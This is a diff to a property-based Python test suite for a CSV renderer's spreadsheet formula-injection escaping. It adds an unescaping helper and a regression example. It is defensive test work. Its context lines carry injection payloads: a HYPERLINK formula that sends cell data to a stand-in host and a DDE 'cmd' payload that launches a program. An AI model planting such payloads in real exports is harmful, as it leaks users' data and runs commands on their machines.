@@ -56,6 +56,16 @@ def unescape(cell: str) -> str:
     return re.sub(r'(?<=[,;\t|\r\n])([ "]*)\'(?=[=+\-@])', r'\1', text)
 
 
+def unescapings(cell: str) -> set[str]:
+    # a cell whose first character is safe (''\n=1'') gets only the inner
+    # escapes, no leading ' (found by hypothesis: ['', '', '\n='])
+    inner = re.sub(r'(?<=[,;\t|\r\n])([ "]*)\'(?=[=+\-@])', r'\1', cell)
+    found = {inner}
+    if cell.startswith("'"):
+        found.add(unescape(cell))
+    return found
+
+
 @given(st.lists(rows, max_size=5))
 @example([['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
            '@SUM(1+1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '\0=1', '-5', -5]])
@@ -239,6 +249,7 @@ json_cells = st.one_of(
 
 
 @given(st.lists(st.lists(json_cells, min_size=3, max_size=3), min_size=1, max_size=4))
+@example([['', '', '\n=']])
 def test_csv_renderer_output_has_no_formula_cells(guarded_app, table):
     table = [[c.replace('\0', '') if isinstance(c, str) else c for c in row]
              for row in table]  # JSON in, text out: NUL is not the point here
@@ -252,4 +263,4 @@ def test_csv_renderer_output_has_no_formula_cells(guarded_app, table):
                 assert cell == ''
             else:
                 assert cell == '' or cell[0] not in DANGEROUS or looks_numeric(cell)
-                assert cell == original or unescape(cell) == original
+                assert cell == original or original in unescapings(cell)
